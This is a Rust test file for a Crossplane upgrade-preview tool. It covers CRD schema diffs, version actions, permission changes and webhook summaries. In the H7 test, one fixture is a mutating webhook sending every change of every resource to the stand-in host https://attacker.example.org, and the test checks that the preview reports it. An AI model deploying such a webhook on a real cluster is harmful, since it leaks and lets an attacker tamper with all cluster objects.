//! What people read.

use super::{Action, Change, Preview, Rehearsed, action, definition, webhooks};
use insta::assert_snapshot;
use serde_json::{Value as Json, json};

/// A definition whose versions have these schemas of their spec.
fn definition(versions: &[(&str, bool, Json)]) -> Json {
    let versions = versions.iter().map(|(name, is_storage, spec)| {
        let schema = json!({"type": "object", "properties": {"spec": spec, "metadata": {}}});
        json!({
            "name": name, "served": true, "storage": is_storage,
            "schema": {"openAPIV3Schema": schema},
        })
    });
    json!({
        "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
        "metadata": {"name": "things.example.org"},
        "spec": {"scope": "Cluster", "versions": versions.collect::<Vec<_>>()},
    })
}

fn spec(fields: &Json) -> Json {
    json!({"type": "object", "properties": fields})
}

#[test]
fn definitions_differ_in_versions_and_fields() {
    let inner = json!({"type": "object", "properties": {"a": {"type": "string"}, "b": {}}});
    let before = definition(&[
        ("v1alpha1", false, spec(&json!({}))),
        (
            "v1",
            true,
            spec(&json!({
                "size": {"type": "string"}, "gone": inner, "list": {"type": "array", "items": inner},
                "limited": {"type": "integer", "maximum": 5},
            })),
        ),
    ]);
    let mut after = spec(&json!({
        "size": {"type": "integer"}, "come": inner, "also": {"type": "string"},
        "list": {"type": "array", "items": {"type": "object", "properties": {"a": {"type": "string"}}}},
        "limited": {"type": "integer", "maximum": 4},
    }));
    after["required"] = json!(["limited", "also"]);
    let mut after = definition(&[("v1", false, after), ("v2", true, spec(&json!({})))]);
    after["spec"]["versions"][0]["deprecated"] = json!(true);
    after["spec"]["scope"] = json!("Namespaced");
    assert_snapshot!(definition::difference(&before, &after).join("\n"), @"
    scope Cluster becomes Namespaced (breaking)
    v1 spec.also: added, and required (breaking)
    v1 spec.limited: maximum 5 becomes 4 (breaking)
    v1 spec.gone, spec.list[].b: removed (breaking)
    v1 spec.limited: required (breaking)
    v1 spec.size: type string becomes integer (breaking)
    v1alpha1: version removed (breaking)
    storage version v1 becomes v2
    v1: version deprecated
    v1 spec.come: added
    v2: version added
    ");
    assert!(definition::difference(&before, &before).is_empty());
}

#[test]
fn of_many_fields_a_few_are_named() {
    let fields = |count: usize| {
        let fields: Json = (0..count).map(|at| (format!("f{at}"), json!({}))).collect();
        definition(&[("v1", true, spec(&fields))])
    };
    let said = definition::difference(&fields(0), &fields(7));
    assert_eq!(said, ["v1 spec.f0, spec.f1, spec.f2, spec.f3, spec.f4 and 2 more: added"]);
}

#[test]
fn what_changes_without_a_field_that_comes_or_goes_is_told_too() {
    let plain = json!({"type": "object", "properties": {"a": {"type": "string"}}});
    let before = definition(&[("v1", true, plain)]);
    let changed = |pointer: &str, value: Json| {
        let mut after = before.clone();
        let (above, field) = pointer.rsplit_once('/').unwrap();
        after.pointer_mut(above).unwrap()[field] = value;
        definition::difference(&before, &after)
    };
    let of_field = |keyword: &str, value| {
        let schema = "/spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/a";
        changed(&format!("{schema}/{keyword}"), value)
    };
    for (keyword, value) in [
        ("default", json!("x")),
        ("nullable", json!(true)),
        ("pattern", json!("^x$")),
        ("description", json!("told")),
    ] {
        let said = of_field(keyword, value);
        assert_eq!(said.is_empty(), keyword == "description", "{keyword}: {said:?}");
    }
    for (pointer, value) in [
        ("/spec/versions/0/subresources", json!({"status": {}})),
        ("/spec/versions/0/additionalPrinterColumns", json!([{"name": "A", "type": "string"}])),
        ("/spec/names", json!({"shortNames": ["t"], "categories": ["all"]})),
    ] {
        assert_ne!(changed(pointer, value), Vec::<String>::new(), "{pointer}");
    }
}

#[test]
fn versions_go_up_and_down_and_aside() {
    let digest = format!("r.io/a@sha256:{}", "1".repeat(64));
    for (from, to, expected) in [
        (None, "r.io/a:v1.0.0", Action::Install),
        (Some("r.io/a:v1.0.0"), "r.io/a:v1.0.0", Action::Keep),
        (Some("r.io/a:v1.9.0"), "r.io/a:v1.10.0", Action::Upgrade),
        (Some("r.io/a:v1.10.0"), "r.io/a:v1.9.0", Action::Downgrade),
        (Some("r.io/a:v1.0.0"), "r.io/a:main", Action::Switch),
        (Some("r.io/a:v1.0.0"), digest.as_str(), Action::Switch),
    ] {
        assert_eq!(action(from, to), expected, "{from:?} {to}");
    }
}

/// A revision of the provider `p`.
fn revision(name: &str, state: &str, definitions: &[&str]) -> Json {
    let references: Vec<Json> = definitions
        .iter()
        .map(|one| json!({"kind": "CustomResourceDefinition", "name": one}))
        .collect();
    json!({
        "apiVersion": "pkg.crossplane.io/v1", "kind": "ProviderRevision",
        "metadata": {"name": name, "labels": {"pkg.crossplane.io/package": "p"}},
        "spec": {"desiredState": state}, "status": {"objectRefs": references},
    })
}

fn role(revision: &str, rules: &Json) -> Json {
    json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
        "metadata": {
            "name": format!("crossplane:provider:{revision}:system"),
            "ownerReferences": [{"kind": "ProviderRevision", "name": revision}],
        },
        "rules": rules,
    })
}

fn provider(version: &str) -> Json {
    json!({
        "apiVersion": "pkg.crossplane.io/v1", "kind": "Provider", "metadata": {"name": "p"},
        "spec": {"package": format!("r.io/p:{version}")},
    })
}

fn from_to(before: Option<Json>, after: Option<Json>) -> Change {
    Change { before, after }
}

#[test]
fn what_is_no_longer_brought_stays_with_the_revision_before_and_goes_with_the_one_that_goes() {
    let changes = vec![
        from_to(Some(provider("v2.0.0")), Some(provider("v3.0.0"))),
        from_to(Some(revision("p-1", "Inactive", &["old", "kept", "always"])), None),
        from_to(
            Some(revision("p-2", "Active", &["kept", "always"])),
            Some(revision("p-2", "Inactive", &["kept", "always"])),
        ),
        from_to(None, Some(revision("p-3", "Active", &["always"]))),
        from_to(
            Some(role(
                "p-2",
                &json!([{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}]),
            )),
            None,
        ),
        from_to(
            None,
            Some(role(
                "p-3",
                &json!([{"apiGroups": ["", "a.io"], "resources": ["pods"], "verbs": ["list", "get"]},
                        {"nonResourceURLs": ["/metrics"], "verbs": ["get"]}]),
            )),
        ),
    ];
    let preview = Preview::of(&Rehearsed { changes, ..Rehearsed::default() });
    assert_snapshot!(serde_json::to_string_pretty(&preview).unwrap(), @r#"
    {
      "packages": [
        {
          "kind": "Provider",
          "name": "p",
          "action": "upgrade",
          "from": "r.io/p:v2.0.0",
          "to": "r.io/p:v3.0.0",
          "because": [],
          "revisionsRemoved": [
            "p-1"
          ],
          "objects": [
            {
              "kind": "CustomResourceDefinition",
              "name": "kept",
              "action": "keep",
              "details": []
            },
            {
              "kind": "CustomResourceDefinition",
              "name": "old",
              "action": "remove",
              "details": []
            }
          ],
          "permissionsGained": [
            "get: /metrics",
            "get, list: pods.a.io",
            "list: pods"
          ],
          "permissionsLost": [],
          "runtime": []
        }
      ],
      "troubles": []
    }
    "#);
}

#[test]
fn a_revision_that_waits_says_so() {
    let changes = vec![
        from_to(Some(provider("v1.0.0")), Some(provider("v2.0.0"))),
        from_to(None, Some(revision("p-2", "Inactive", &[]))),
    ];
    let preview = Preview::of(&Rehearsed { changes, ..Rehearsed::default() });
    assert_eq!(preview.packages[0].awaits_activation.as_deref(), Some("p-2"));
    assert!(!preview.is_empty());
}

#[test]
fn nothing_is_told_of_what_only_its_status_says() {
    let mut told = provider("v1.0.0");
    told["status"] = json!({"conditions": []});
    let changes = vec![from_to(Some(provider("v1.0.0")), Some(told))];
    assert!(Preview::of(&Rehearsed { changes, ..Rehearsed::default() }).is_empty());
}

#[test]
fn what_is_in_the_way_is_told() {
    let mut refused = revision("p-1", "Active", &[]);
    refused["status"]["conditions"] = json!([
        {"type": "RevisionHealthy", "status": "False", "message": "it needs q"},
        {"type": "RuntimeHealthy", "status": "False", "message": "it does not run yet"},
    ]);
    let changes = vec![from_to(None, Some(provider("v1.0.0"))), from_to(None, Some(refused))];
    let preview = Preview::of(&Rehearsed { changes, ..Rehearsed::default() });
    assert_eq!(preview.troubles, ["ProviderRevision p-1: it needs q"]);
}

/// H5: a package that was refused before does not fail the plans of others.
#[test]
fn h5_what_was_wrong_before_is_in_nobodys_way() {
    let conflict = |name: &str| solver::Conflict {
        name: name.to_owned(),
        source: solver::Source::new("r.io/x"),
        sentences: vec!["it needs r.io/lost".to_owned()],
        hint: "push it".to_owned(),
        involved: std::collections::BTreeSet::new(),
    };
    let report = |names: &[&str]| crate::lock::Report {
        conflicts: names.iter().map(|name| conflict(name)).collect(),
        ..crate::lock::Report::default()
    };
    let changes = vec![from_to(None, Some(provider("v1.0.0")))];
    let rehearsed = Rehearsed {
        changes,
        report: report(&["bad", "p"]),
        before: report(&["bad"]),
        ..Rehearsed::default()
    };
    let preview = Preview::of(&rehearsed);
    let told =
        |all: &[String]| all.iter().map(|it| it.split(':').next().unwrap().to_owned()).collect();
    let (troubles, standing): (Vec<String>, Vec<String>) =
        (told(&preview.troubles), told(&preview.standing));
    assert_eq!((troubles, standing), (vec!["p".to_owned()], vec!["bad".to_owned()]));
    // A plan that asks for something else of it tells of it.
    let changes = vec![from_to(Some(provider("v1.0.0")), Some(provider("v2.0.0")))];
    let (report, before) = (report(&["p"]), report(&["p"]));
    let preview = Preview::of(&Rehearsed { changes, report, before, ..Rehearsed::default() });
    assert_eq!((preview.troubles.len(), preview.standing.len()), (1, 0));
}

/// H6: what no API server has of a definition is told without asking one.
#[test]
fn h6_a_changed_scope_and_a_stored_version_that_goes_are_in_the_way() {
    let mut before = definition(&[("v1", false, spec(&json!({}))), ("v2", true, spec(&json!({})))]);
    before["status"] = json!({"storedVersions": ["v1", "v2"]});
    let mut after = definition(&[("v2", true, spec(&json!({})))]);
    let troubles = |after: &Json| {
        let changes = vec![from_to(Some(before.clone()), Some(after.clone()))];
        Preview::of(&Rehearsed { changes, ..Rehearsed::default() }).troubles.join("\n")
    };
    assert!(troubles(&after).contains("version v1 cannot be removed"), "{}", troubles(&after));
    after["spec"]["scope"] = json!("Namespaced");
    assert!(troubles(&after).contains("cannot change from Cluster to Namespaced"));
    assert_eq!(troubles(&before), "");
}

/// H7: what a webhook is about, where it leads and what comes of no answer is told.
#[test]
fn h7_webhooks_are_told_with_their_rules_address_and_failure_policy() {
    let configuration =
        |webhooks: &Json| json!({"kind": "MutatingWebhookConfiguration", "webhooks": webhooks});
    let service = json!({"service": {"name": "p", "namespace": "crossplane-system"}});
    let own = json!({
        "name": "own", "clientConfig": service, "failurePolicy": "Ignore",
        "rules": [{"apiGroups": ["example.org"], "resources": ["things"], "operations": ["CREATE", "DELETE"]}],
    });
    let everything = json!({
        "name": "all", "clientConfig": {"url": "https://attacker.example.org"},
        "rules": [{"apiGroups": ["*", ""], "resources": ["*/*"], "operations": ["*"]}],
    });
    let before = configuration(&json!([own, {"name": "old", "clientConfig": service}]));
    let after = configuration(&json!([own, everything]));
    assert_snapshot!(webhooks::summary(&after).join("\n"), @r"
    own calls Service crossplane-system/p about create, delete of things.example.org, which goes through without an answer
    all calls https://attacker.example.org about every change of */*.*, */*, which is refused without an answer
    ");
    assert_snapshot!(webhooks::difference(&before, &after).join("\n"), @r"
    all calls https://attacker.example.org about every change of */*.*, */*, which is refused without an answer
    old is no longer called
    ");
    let mut converted = definition(&[("v1", true, spec(&json!({})))]);
    let plain = converted.clone();
    converted["spec"]["conversion"] =
        json!({"strategy": "Webhook", "webhook": {"clientConfig": service}});
    let words = "versions are converted by Service crossplane-system/p";
    assert_eq!(definition::summary(&converted), ["v1", words]);
    assert_eq!(definition::difference(&plain, &converted), [words]);
}
